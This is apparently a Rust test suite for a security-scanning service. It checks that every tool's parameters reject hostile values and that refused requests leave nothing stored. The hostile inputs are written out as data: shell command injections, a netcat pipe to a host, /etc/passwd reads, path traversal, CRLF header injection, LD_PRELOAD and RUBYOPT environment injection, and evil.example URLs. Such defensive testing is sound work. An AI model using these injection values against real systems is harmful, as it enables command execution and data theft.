//! Parameters that nobody means well, for every tool of the catalogue and every way to ask for it (A1–A22 of
//! `docs/security.md`): 400 that names the field, and nothing is stored. A tool that is added is tested without a word here.

use picket_scanners::{Asked, ScanSpec, Tool};
use serde_json::{Map, Value, json};

use crate::{
    harness::{Answer, Member, TestApp},
    scans::allow_example,
};

async fn start() -> (TestApp, Member) {
    let app = TestApp::spawn_with(|settings| {
        allow_example(settings);
        settings.rate_limits = false;
    })
    .await;
    let member = app.member("ada@example.com").await;
    app.verify("ada@example.com").await;
    (app, member)
}

/// Values that fit no parameter of any tool.
fn hostile() -> Vec<Value> {
    let texts = [
        ";id",
        "$(id)",
        "`id`",
        "| nc 10.0.0.1 4444",
        "-oN /scratch/x",
        "--script=/etc/passwd",
        "-iL/etc/passwd",
        "--openssl=/scratch/x",
        "-config",
        "+/tmp/x.rb",
        "http://evil.example/",
        "@/etc/passwd",
        "../../etc/passwd",
        "a\nb",
        "a\r\nX-Injected: 1",
        "a\tb",
        "a\u{a0}b",
        "٤٤٣",
        "%H",
        "{{7*7}}",
    ];
    let mut values: Vec<Value> = texts.iter().map(|text| json!(text)).collect();
    values.extend(texts.iter().take(6).map(|text| json!([text])));
    values.push(json!("A".repeat(64 * 1024)));
    values.extend([json!({"$ne": null}), json!([[]]), json!(-1), json!(1e300), json!(0.5), json!([null])]);
    values
}

/// The parameters of a tool that its schema names.
fn properties(tool: &dyn Tool) -> Vec<String> {
    let schema = tool.params_schema();
    let names: Vec<String> = schema["properties"].as_object().into_iter().flat_map(Map::keys).cloned().collect();
    assert!(!names.is_empty(), "{} tells of no parameter", tool.slug());
    names
}

/// The same parameters at every entry point.
async fn ask(app: &TestApp, member: &Member, tool: &str, parameters: &Value) -> [Answer; 2] {
    let create = json!({"target": "example.com", "tool": tool, "parameters": parameters});
    let rehearse = json!({"target": "example.com", "parameters": parameters});
    let path = format!("/api/v2/tools/{tool}/build-command");
    [
        app.post("/api/v1/scans/create", Some(&member.token), &create).await,
        app.post(&path, Some(&member.token), &rehearse).await,
    ]
}

/// The same where it is only kept, to be asked for later; with the path under which the refusal names it.
async fn keep(app: &TestApp, member: &Member, tool: &str, parameters: &Value) -> [(Answer, &'static str); 2] {
    let profile = json!({"name": "x", "tool": tool, "parameters": parameters});
    let scan = json!({"target": "example.com", "tool": tool, "parameters": parameters});
    let schedule = json!({"name": "x", "kind": "scan", "cron": "30 2 * * *", "scan": scan});
    [
        (app.post("/api/v1/scan-profiles", Some(&member.token), &profile).await, ""),
        (app.post("/api/v1/schedules", Some(&member.token), &schedule).await, "scan."),
    ]
}

/// Nothing was stored for what was refused, and nothing audited as if it had been.
async fn assert_nothing(app: &TestApp) {
    let sql = "SELECT (SELECT count(*) FROM scans) + (SELECT count(*) FROM tasks) + (SELECT count(*) FROM events)
                      + (SELECT count(*) FROM schedules) + (SELECT count(*) FROM scan_profile_versions)
                      + (SELECT count(*) FROM audit_log WHERE entry LIKE '%\"scan.%' AND entry NOT LIKE '%\"scan.refused\"%')";
    let row = app.database.connect().await.query_one(sql, &[]).await.unwrap();
    assert_eq!(row.get::<_, i64>(0), 0);
}

#[test]
fn a23_no_hostile_value_of_a_stored_task_passes_the_door() {
    for tool in picket_scanners::ALL {
        for name in properties(*tool) {
            for value in hostile() {
                let parameters = json!({name.as_str(): value});
                let forged = ScanSpec::try_from(Asked { tool: tool.slug(), parameters: Some(&parameters) });
                assert!(forged.is_err(), "{} took {parameters}", tool.slug());
            }
        }
        for parameters in [json!(null), json!([]), json!("-sV"), json!(1), json!({"env": {"LD_PRELOAD": "/tmp/x"}})] {
            let forged = ScanSpec::try_from(Asked { tool: tool.slug(), parameters: Some(&parameters) });
            assert!(forged.is_err(), "{} took {parameters}", tool.slug());
        }
    }
}

#[tokio::test]
async fn a1_to_a19_hostile_values_of_every_parameter_of_every_tool_are_refused() {
    let (app, member) = start().await;
    for tool in picket_scanners::ALL {
        for name in properties(*tool) {
            for value in hostile() {
                let parameters = json!({name.as_str(): value});
                let asked = ask(&app, &member, tool.slug(), &parameters).await.map(|answer| (answer, ""));
                for (answer, under) in asked.into_iter().chain(keep(&app, &member, tool.slug(), &parameters).await) {
                    let refused = answer.assert_problem(400, "invalid_request");
                    let field = refused["errors"][0]["field"].as_str().unwrap();
                    assert!(
                        field.starts_with(&format!("{under}parameters.{name}")),
                        "{} {value}: {field}",
                        tool.slug()
                    );
                    assert!(answer.text.len() < 4_096, "a refusal repeats what was sent: {}", answer.text.len());
                }
            }
        }
    }
    assert_nothing(&app).await;
}

/// The cases that `docs/security.md` names of single tools; those of nmap are in `scans.rs` and in its own tests too.
fn named_cases() -> Vec<(&'static str, &'static str, Value, &'static str)> {
    vec![
        ("A1", "nmap", json!({"scan_type": "-sV --script=/etc/passwd"}), "scan_type"),
        ("A2", "nmap", json!({"scan_type": "-sV -script=x"}), "scan_type"),
        ("A3", "nmap", json!({"scan_type": "--datad=/tmp"}), "scan_type"),
        ("A4", "nmap", json!({"scan_type": "-sV\u{a0}-sC"}), "scan_type"),
        ("A5", "nmap", json!({"scan_type": "-oA%H"}), "scan_type"),
        ("A6", "nmap", json!({"scan_type": "-iR 100"}), "scan_type"),
        ("A7", "nmap", json!({"scan_type": "-sV -sC -O 10.0.0.1"}), "scan_type"),
        ("A8", "nmap", json!({"scan_type": "-sI zombie"}), "scan_type"),
        ("A9", "nmap", json!({"timing": "-T4 -oN x"}), "timing"),
        ("A10", "nmap", json!({"ports": "٤٤٣"}), "ports"),
        ("A11", "nmap", json!({"scripts": ["vuln and not safe"]}), "scripts"),
        ("A12", "nmap", json!({"script_args": "newtargets"}), "script_args"),
        ("A14", "nikto", json!({"host": "/etc/passwd"}), "host"),
        ("A14", "nikto", json!({"vhost": "-"}), "vhost"),
        ("A14", "nikto", json!({"tuning": ["-config"]}), "tuning"),
        ("A15", "testssl", json!({"checks": ["--openssl=/scratch/x"]}), "checks"),
        ("A15", "testssl", json!({"file": "/etc/passwd"}), "file"),
        ("A15", "sslscan", json!({"targets": "/etc/passwd"}), "targets"),
        ("A16", "nuclei", json!({"code": true}), "code"),
        ("A16", "nuclei", json!({"templates": "http://evil.example/"}), "templates"),
        ("A16", "nuclei", json!({"tags": ["../"]}), "tags"),
        ("A17", "wapiti", json!({"endpoint": "http://evil.example/"}), "endpoint"),
        ("A17", "wapiti", json!({"modules": ["--endpoint"]}), "modules"),
        ("A18", "whatweb", json!({"plugins": "+/tmp/x.rb"}), "plugins"),
        ("A19", "zap", json!({"headers": {"X": "a\r\nb"}}), "headers"),
        ("A19", "ffuf", json!({"cookie": "a\0b"}), "cookie"),
        ("A22", "whatweb", json!({"env": {"RUBYOPT": "-r/tmp/x"}}), "env"),
    ]
}

#[tokio::test]
async fn a1_to_a22_each_named_case_is_refused_at_the_api_and_at_the_workers_door() {
    let (app, member) = start().await;
    for (case, tool, parameters, field) in named_cases() {
        let forged = ScanSpec::try_from(Asked { tool, parameters: Some(&parameters) });
        assert!(forged.is_err(), "{case} {tool} {parameters}");
        for answer in ask(&app, &member, tool, &parameters).await {
            let refused = answer.assert_problem(400, "invalid_request");
            let said = refused["errors"][0]["field"].as_str().unwrap();
            assert!(said.starts_with(&format!("parameters.{field}")), "{case} {tool} {parameters}: {said}");
        }
        for (answer, under) in keep(&app, &member, tool, &parameters).await {
            let refused = answer.assert_problem(400, "invalid_request");
            let said = refused["errors"][0]["field"].as_str().unwrap();
            assert!(said.starts_with(&format!("{under}parameters.{field}")), "{case} {tool} {parameters}: {said}");
        }
    }
    assert_nothing(&app).await;
}

/// One forged value for each parameter of each tool, another for each, with one parameter that no tool has.
fn forged() -> Vec<(&'static str, String, Value)> {
    let (values, mut all) = (hostile(), Vec::new());
    for tool in picket_scanners::ALL {
        for name in properties(*tool) {
            let value = values[all.len() % values.len()].clone();
            all.push((tool.slug(), name.clone(), json!({ name: value })));
        }
        all.push((tool.slug(), "env".to_owned(), json!({"env": {"LD_PRELOAD": "/tmp/x"}})));
    }
    all
}

/// A23: a scan, a saved profile and a schedule that somebody changed in the database are looked at again when they are used.
#[tokio::test]
async fn a23_what_was_forged_in_the_database_is_refused_when_it_is_repeated() {
    let (app, member) = start().await;
    let token = Some(member.token.as_str());
    let sound = json!({"target": "example.com", "tool": "nmap", "parameters": {"ports": "80"}});
    let scan = app.post("/api/v1/scans/create", token, &sound).await.json()["id"].as_str().unwrap().to_owned();
    let body = json!({"name": "x", "tool": "nmap", "parameters": {"ports": "80"}});
    let profile = app.post("/api/v1/scan-profiles", token, &body).await.json()["id"].as_str().unwrap().to_owned();
    let database = app.database.connect().await;
    let ended = "UPDATE tasks SET state = 'cancelled', gap = 'cancelled', ended_at = now();
                 UPDATE scans SET state = 'cancelled', ended_at = now()";
    database.batch_execute(ended).await.unwrap();
    for (tool, name, parameters) in forged() {
        let change = "UPDATE scans SET tool = $1, request = $2";
        database.execute(change, &[&tool, &parameters]).await.unwrap();
        let wanted = json!({"tool": tool, "parameters": parameters});
        database.execute("UPDATE scan_profile_versions SET wanted = $1", &[&wanted]).await.unwrap();
        let again = app.post(&format!("/api/v1/scan/{scan}/rerun"), token, &json!({})).await;
        let by_profile = json!({"target": "example.com", "profile": profile});
        for answer in [again, app.post("/api/v1/scans/create", token, &by_profile).await] {
            let refused = answer.assert_problem(400, "invalid_request");
            let field = refused["errors"][0]["field"].as_str().unwrap();
            assert!(field.starts_with(&format!("parameters.{name}")), "{tool} {parameters}: {field}");
        }
    }
    let row = database.query_one("SELECT count(*) FROM scans", &[]).await.unwrap();
    assert_eq!(row.get::<_, i64>(0), 1, "nothing was repeated");
}

/// One row for each create, and none for a dry run; nothing that was sent is in it.
#[tokio::test]
async fn a1_to_a22_a_create_that_is_refused_leaves_a_row_without_what_was_sent() {
    let (app, member) = start().await;
    let asked = [
        ("nmap", json!({"scan_type": "-sV --script=/etc/passwd"}), "parameters.scan_type", "invalid"),
        ("nmap", json!({"ports": "1-3 -oN x$(id)"}), "parameters.ports", "invalid"),
        ("nmap", json!({"scripts": ["http-title", "../passwd"]}), "parameters.scripts[1]", "not_allowed"),
        ("nmap", json!({"--passwd": "x"}), "parameters", "unknown_field"),
        ("whatweb", json!({"aggression": "+/tmp/passwd.rb"}), "parameters.aggression", "invalid"),
    ];
    for (tool, parameters, ..) in &asked {
        for answer in ask(&app, &member, tool, parameters).await {
            answer.assert_problem(400, "invalid_request");
        }
    }
    let body = json!({"target": "example.com", "tool": "../../bin/passwd"});
    app.post("/api/v1/scans/create", Some(&member.token), &body).await.assert_problem(400, "invalid_request");
    let sql = "SELECT entry FROM audit_log WHERE entry LIKE '%\"scan.refused\"%' ORDER BY sequence";
    let rows = app.database.connect().await.query(sql, &[]).await.unwrap();
    let rows: Vec<Value> = rows.iter().map(|row| serde_json::from_str(row.get(0)).unwrap()).collect();
    assert_eq!(rows.len(), asked.len() + 1, "{rows:?}");
    for (row, (tool, _, field, code)) in rows.iter().zip(&asked) {
        assert_eq!((&row["after"]["tool"], &row["after"]["field"]), (&json!(tool), &json!(field)));
        let said = row["after"]["code"].as_str().unwrap();
        assert!(said == *code || *tool == "whatweb", "{said}");
    }
    assert_eq!(rows[asked.len()]["after"], json!({"tool": null, "field": "tool", "code": "unknown_tool"}));
    assert!(rows.iter().all(|row| !row.to_string().contains("passwd") && !row["actor"].is_null()), "{rows:?}");
    assert_nothing(&app).await;
}

#[tokio::test]
async fn a20_to_a22_bodies_of_every_tool_know_their_fields() {
    let (app, member) = start().await;
    for tool in picket_scanners::ALL {
        for (name, value) in [
            ("env", json!({"NMAPDIR": "/tmp"})),
            ("args", json!(["-oN", "/scratch/x"])),
            ("script-args", json!("newtargets")),
            ("--open", json!(true)),
            ("__proto__", json!({})),
        ] {
            for answer in ask(&app, &member, tool.slug(), &json!({name: value})).await {
                answer.assert_field(&format!("parameters.{name}"), "unknown_field");
            }
        }
        for parameters in [json!(null), json!([]), json!("-sV"), json!(7), json!(true)] {
            for answer in ask(&app, &member, tool.slug(), &parameters).await {
                assert_eq!(answer.status, 400, "{parameters}: {}", answer.text);
            }
        }
        let name = properties(*tool).remove(0);
        let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
        for parameters in [format!("{{\"{name}\":1,\"{name}\":1}}"), format!("{{\"{name}\":{deep}}}")] {
            let body =
                format!("{{\"target\":\"example.com\",\"tool\":\"{}\",\"parameters\":{parameters}}}", tool.slug());
            let answer = app.post_raw("/api/v1/scans/create", Some(&member.token), body).await;
            answer.assert_problem(400, "invalid_request");
        }
    }
    assert_nothing(&app).await;
}

#[tokio::test]
async fn a23_options_of_a_plan_carry_no_parameters() {
    let (app, member) = start().await;
    for value in hostile() {
        for option in ["port_scan", "web_scan", "ssl_scan", "include_subdomain"] {
            let body = json!({"target": "example.com", "options": {option: value}});
            let answer = app.post("/api/v2/scans", Some(&member.token), &body).await;
            answer.assert_problem(400, "invalid_request");
        }
    }
    for (name, value) in [("parameters", json!({"ports": "1"})), ("tool", json!("nmap")), ("ports", json!("1"))] {
        let body = json!({"target": "example.com", name: value});
        app.post("/api/v2/scans", Some(&member.token), &body).await.assert_field(name, "unknown_field");
    }
    assert_nothing(&app).await;
}
